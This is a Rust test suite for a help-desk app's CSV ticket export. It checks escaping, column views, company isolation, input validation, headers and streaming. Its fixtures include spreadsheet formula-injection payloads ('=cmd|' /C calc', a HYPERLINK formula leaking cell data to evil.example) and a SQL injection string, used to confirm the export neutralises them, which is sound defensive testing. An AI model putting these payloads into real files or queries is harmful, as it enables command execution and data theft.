//! The dashboard's view as a CSV file.

use crate::support::{Answer, PATIENCE, Site, Visitor, sites};
use domain::listing::Column;
use reqwest::Method;
use std::time::Instant;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

const HEADS: [&str; 13] = [
    "Number",
    "Subject",
    "Status",
    "Priority",
    "Queue",
    "Type",
    "Company",
    "Reporter",
    "Assignee",
    "Channel",
    "Created",
    "Last change",
    "Age",
];

/// The file's records, the heads first.
fn records(answer: &Answer) -> Vec<Vec<String>> {
    assert_eq!(answer.status, 200, "{}", answer.text());
    let text = answer.bytes.strip_prefix("\u{feff}".as_bytes()).expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
    let records: Vec<Vec<String>> =
        reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(answer.header("x-portico-rows"), (records.len() - 1).to_string());
    records
}

/// The cells of one column, without its head.
fn column(records: &[Vec<String>], head: &str) -> Vec<String> {
    let place = records[0].iter().position(|cell| cell == head).unwrap_or_else(|| panic!("{head}: {:?}", records[0]));
    records[1..].iter().map(|record| record[place].clone()).collect()
}

/// Numbers on all pages of a list.
async fn listed(visitor: &Visitor, query: &str) -> Vec<String> {
    let mut numbers = Vec::new();
    for page in 1.. {
        let list = visitor.list(&format!("{query}&size=25&page={page}")).await.json();
        let rows = list["rows"].as_array().unwrap();
        if rows.is_empty() {
            break;
        }
        numbers.extend(rows.iter().map(|row| row["number"].as_str().unwrap().to_owned()));
    }
    numbers
}

/// What a ticket may be called, and whether a spreadsheet would take it for a formula.
const SUBJECTS: [(&str, bool); 22] = [
    ("=cmd|' /C calc'!A0", true),
    ("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", true),
    ("+1", true),
    ("-2", true),
    ("@SUM(1+1)*cmd|' /C calc'!A0", true),
    ("  =1+1", true),
    ("\t=1+1", true),
    ("\ta tab", true),
    ("＝1+1", true),
    ("＋1", true),
    ("－1", true),
    ("＠SUM(1)", true),
    ("\u{feff}=1+1", true),
    ("\u{202e}=1+1", true),
    ("'=1+1", false),
    ("a \"quoted\" word, a comma; and\ttab", false),
    ("two\nlines\r\nand a third\rone", false),
    ("\"", false),
    (",,,\"\"\"", false),
    ("🖨️ größe 漢字 \u{202e}reversed\u{202c} \u{feff}mark", false),
    ("مرحبا، =1", false),
    (" ", false),
];

/// Subjects that hold formulas where a spreadsheet that separates by semicolons begins a cell, and how they are kept from it.
const PIECES: [(&str, &str); 4] = [
    ("\r=1+1", "'\r'=1+1"),
    ("\n=1+1", "'\n'=1+1"),
    ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
    ("one; two;\n@SUM(1)", "one; two;\n'@SUM(1)"),
];

#[tokio::test(flavor = "multi_thread")]
async fn hostile_subjects_come_out_as_text() {
    for site in sites().await {
        let alice = site.sign_in("alice").await;
        let mut numbers = Vec::new();
        let whole =
            SUBJECTS.map(|(subject, formula)| (subject, format!("{}{subject}", if formula { "'" } else { "" })));
        let pieces = PIECES.map(|(subject, kept)| (subject, kept.to_owned()));
        let subjects: Vec<_> = whole.into_iter().chain(pieces).collect();
        for (subject, _) in &subjects {
            let number = alice.raise("Harmless", "x").await;
            let quoted = subject.replace('\'', "''");
            let counter = number.trim_start_matches("PT-");
            site.execute(&format!("UPDATE tickets SET subject = '{quoted}' WHERE number = {counter}")).await;
            numbers.push(number);
        }
        let answer = alice.get("/tickets/export?cols=number,subject").await;
        let records = records(&answer);
        assert_eq!(records[0], ["Number", "Subject"]);
        for (number, (_, expected)) in numbers.iter().zip(&subjects) {
            let record = records.iter().find(|record| record[0] == *number).unwrap();
            assert_eq!(record[1], *expected);
        }
        let text = answer.text();
        assert!(text.contains(",\"a;'=cmd|' /C calc'!A0\"\r\n"), "what holds a semicolon is quoted");
        let plain = "cols=number&assignee=none";
        assert!(text.starts_with("\u{feff}Number,Subject\r\n") && text.ends_with("\r\n"));
        let lines = alice.get(&format!("/tickets/export?{plain}")).await.text();
        assert_eq!(lines.matches('\n').count(), lines.matches("\r\n").count(), "every line ends as the RFC says");
        assert!(!lines.contains('"'), "what needs no quotes has none");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn names_are_no_formulas_either() {
    for site in sites().await {
        site.execute("UPDATE users SET name = '=1+' || name").await;
        site.execute("UPDATE companies SET name = '@' || name").await;
        let grace = site.sign_in("grace").await;
        let records = records(&grace.get("/tickets/export?closed=1&all=1").await);
        assert!(column(&records, "Reporter").iter().all(|name| name.starts_with("'=1+")));
        assert!(column(&records, "Assignee").iter().all(|name| name.is_empty() || name.starts_with("'=1+")));
        assert!(column(&records, "Company").iter().all(|name| name.starts_with("'@")));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_holds_what_its_view_shows() {
    for site in sites().await {
        for handle in ["alice", "ewa", "grace"] {
            let visitor = site.sign_in(handle).await;
            for query in [
                "",
                "closed=1",
                "closed=1&sort=-subject",
                "closed=1&sort=reporter",
                "scope=mine",
                "queue=print&queue=software&closed=1",
                "status=solved",
                "assignee=none&type=incident",
                "q=printer&closed=1",
                "period=30d&on=created&closed=1",
                "q=nothing+is+called+so",
            ] {
                let records = records(&visitor.get(&format!("/tickets/export?{query}&cols=subject,number")).await);
                assert_eq!(records[0], ["Subject", "Number"]);
                assert_eq!(column(&records, "Number"), listed(&visitor, query).await, "{handle}: {query}");
                let paged = visitor.get(&format!("/tickets/export?{query}&cols=subject,number&page=3&size=25")).await;
                assert_eq!(self::records(&paged), records, "{handle}: {query}: a file has no pages");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn all_columns_are_thirteen_and_the_attributes() {
    for site in sites().await {
        let alice = site.sign_in("alice").await;
        assert_eq!(HEADS.len(), Column::ALL.len());
        let usual = records(&alice.get("/tickets/export").await);
        let expected = ["Number", "Subject", "Status", "Priority", "Queue", "Assignee", "Created", "Last change"];
        assert_eq!(usual[0], expected);
        let all = records(&alice.get("/tickets/export?cols=subject&all=1").await);
        assert_eq!(all[0][..13], HEADS);
        let attributes = ["Who is affected", "Product", "Serial number", "Kind of request", "Needed by", "Planned for"];
        assert_eq!(all[0][13..], attributes, "the attributes for lists that she may read");
        let label = all.iter().find(|record| record[1].starts_with("Label printer prints blanks")).unwrap();
        let shown = alice.show(&label[0]).await.json();
        assert_eq!((&label[5], &label[6]), (&"Incident".to_owned(), &"Harbourline Logistics".to_owned()), "{label:?}");
        assert_eq!(label[7], shown["reporter"]["name"].as_str().unwrap_or(&label[7]));
        let is_instant = |text: &str| text.len() == 16 && text.starts_with("2026-") && text.as_bytes()[10] == b' ';
        assert!(is_instant(&label[10]) && is_instant(&label[11]), "{label:?}");
        assert!(label[12].ends_with(" ago"), "{label:?}");
        // The day and the hours are the reader's.
        let utc = "UPDATE users SET time_zone = 'Etc/UTC'";
        site.execute(utc).await;
        let before = column(&records(&alice.get("/tickets/export?all=1").await), "Created");
        site.execute("UPDATE users SET time_zone = 'Pacific/Kiritimati'").await;
        let there = alice.get("/tickets/export?all=1").await;
        assert_ne!(column(&records(&there), "Created"), before);
        site.advance(2 * 3_600_000);
        let there = alice.get("/tickets/export").await;
        assert_eq!(there.header("content-disposition"), "attachment; filename=\"portico-tickets-2026-06-02.csv\"");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_is_a_private_download() {
    let site = Site::start().await;
    let alice = site.sign_in("alice").await;
    let get = alice.get("/tickets/export?closed=1").await;
    let head = Answer::of(alice.request(Method::HEAD, "/tickets/export?closed=1")).await;
    assert!(head.bytes.is_empty());
    for answer in [&get, &head] {
        assert_eq!(answer.status, 200);
        for (name, value) in [
            ("content-type", "text/csv; charset=utf-8"),
            ("content-disposition", "attachment; filename=\"portico-tickets-2026-06-01.csv\""),
            ("x-content-type-options", "nosniff"),
            ("cache-control", "no-store"),
            (
                "content-security-policy",
                "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'",
            ),
            ("x-portico-rows", &(records(&get).len() - 1).to_string()),
        ] {
            assert_eq!(answer.header(name), value);
        }
    }
    for method in ["POST", "PUT", "PATCH", "DELETE", "OPTIONS"] {
        let request = alice.request(method.parse().unwrap(), "/tickets/export").header("Origin", &site.base);
        assert_eq!(Answer::of(request).await.status, 405, "{method}");
    }
    for path in ["/tickets/export", "/tickets/export?all=1&sort=nonsense"] {
        for method in [Method::GET, Method::HEAD] {
            let nobody = Answer::of(site.visitor().request(method, path)).await;
            assert_eq!((nobody.status, nobody.header("content-disposition")), (401, ""));
            assert!(nobody.headers.get("x-portico-rows").is_none());
        }
        assert_eq!(site.visitor().script().get(path).await.text(), r#"{"Err":"SignedOut"}"#);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn another_company_s_tickets_are_in_no_file() {
    for site in sites().await {
        let ewa = site.sign_in("ewa").await;
        for query in ["closed=1", "closed=1&scope=all&sort=company", "closed=1&q=blanks", "closed=1&q=company1"] {
            let answer = ewa.get(&format!("/tickets/export?all=1&{query}")).await;
            let companies = column(&records(&answer), "Company");
            assert!(companies.iter().all(|company| company == "Smallpier Storage"), "{query}: {companies:?}");
            assert!(!answer.text().contains("Harbourline"), "{query}");
        }
        let foreign = ewa.get("/tickets/export?closed=1&company=harbourline").await;
        let never = ewa.get("/tickets/export?closed=1&company=nowhere").await;
        assert_eq!((foreign.status, foreign.text()), (422, never.text()));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_understood_is_named_and_nothing_is_exported() {
    for site in sites().await {
        let alice = site.sign_in("alice").await;
        for (query, names) in [
            ("sort=shoe", "sort"),
            ("closed=yes&sort=shoe&size=7", "closed, sort"),
            ("queue=workshop", "queue"),
            ("queue=print&queue=%00", "queue"),
            ("from=2026-02-30", "from"),
            ("from=2026-02-02&to=2026-02-01", "to"),
            ("cols=number,secret&all=1", "cols"),
            ("all=yes", "all"),
            ("scope=theirs", "scope"),
            ("q=%00", "q"),
            ("assignee=%27%20OR%201%3D1%20--", "assignee"),
        ] {
            let answer = alice.get(&format!("/tickets/export?{query}")).await;
            assert_eq!((answer.status, answer.header("content-disposition")), (422, ""), "{query}");
            assert_eq!(answer.header("content-type"), "text/plain; charset=utf-8");
            let said = format!("wasn’t understood: {names}.");
            assert!(answer.text().ends_with(&said), "{query}: {}", answer.text());
            let script = alice.script().get(&format!("/tickets/export?{query}")).await;
            assert_eq!(script.status, 422);
            let first = names.split(", ").next().unwrap();
            assert_eq!(script.json()["Err"]["Invalid"][0]["field"], first, "{query}");
        }
        for query in ["", "?", "&&", "utm=x", "scope[]=mine", "page=0&size=7", "all=0", "all=", "%FF=%00"] {
            assert_eq!(alice.get(&format!("/tickets/export?{query}")).await.status, 200, "{query}");
        }
    }
}

/// So many tickets of alice's company that no buffer between here and there holds their file.
const MANY: usize = 20_000;

async fn many(site: &Site) {
    let copied = "company_id, reporter_id, assignee_id, queue_id, type_id, status_id, priority_id, channel, closed, created_at, \
        changed_at, last_event, last_public_event";
    let subject = "Much to read. ".repeat(40);
    site.execute(&format!(
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {MANY}) \
         INSERT INTO tickets (number, subject, subject_key, {copied}) \
         SELECT 500000 + n.i, '{subject}', 'much', {copied} FROM tickets CROSS JOIN n WHERE number = 1001"
    ))
    .await;
}

/// Asks for a file over a connection that takes little at a time, and reads its beginning.
async fn begin(visitor: &Visitor, path: &str) -> (TcpStream, Vec<u8>) {
    let host = visitor.base.trim_start_matches("http://");
    let socket = TcpSocket::new_v4().unwrap();
    socket.set_recv_buffer_size(4096).unwrap();
    let mut stream = socket.connect(host.parse().unwrap()).await.unwrap();
    let cookie = visitor.cookie.clone().unwrap();
    let head = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\nConnection: close\r\n\r\n");
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut begun = vec![0; 2048];
    stream.read_exact(&mut begun).await.unwrap();
    assert!(begun.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&begun));
    (stream, begun)
}

#[tokio::test(flavor = "multi_thread")]
async fn clients_that_wait_or_hang_up_hinder_nobody() {
    for site in sites().await {
        many(&site).await;
        let grace = site.sign_in("grace").await;
        let before = site.content().await;
        let mut waiting = Vec::new();
        for _ in 0..30 {
            waiting.push(begin(&grace, "/tickets/export?closed=1&all=1").await);
        }
        let begun = Instant::now();
        assert_eq!(grace.list("q=blanks").await.status, 200);
        assert!(begun.elapsed() < PATIENCE, "{:?}: no file holds a connection to the database", begun.elapsed());
        drop(waiting);
        let whole = records(&grace.get("/tickets/export?closed=1&all=1").await);
        assert_eq!(whole.len() - 1, site.count("tickets").await);
        assert!(whole.len() > MANY);
        let mut numbers = column(&whole, "Number");
        numbers.sort();
        numbers.dedup();
        assert_eq!(numbers.len(), whole.len() - 1, "none stands twice");
        before.assert_same(&site.content().await, "an export");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_breaks_off_does_not_look_whole() {
    for site in sites().await {
        many(&site).await;
        let grace = site.sign_in("grace").await;
        for signs_out in [false, true] {
            let (mut stream, mut bytes) = begin(&grace, "/tickets/export?closed=1&cols=number,subject").await;
            if signs_out {
                assert_eq!(grace.post_form("/logout", &[]).await.status, 303);
            }
            // A connection that is reset has ended too.
            let _ = stream.read_to_end(&mut bytes).await;
            let text = String::from_utf8_lossy(&bytes);
            let lines = text.matches("Much to read. \r\n").count();
            assert_eq!(bytes.ends_with(b"\r\n0\r\n\r\n"), !signs_out, "the last chunk says that the file is whole");
            assert_eq!(lines >= MANY, !signs_out, "{lines}");
        }
    }
}
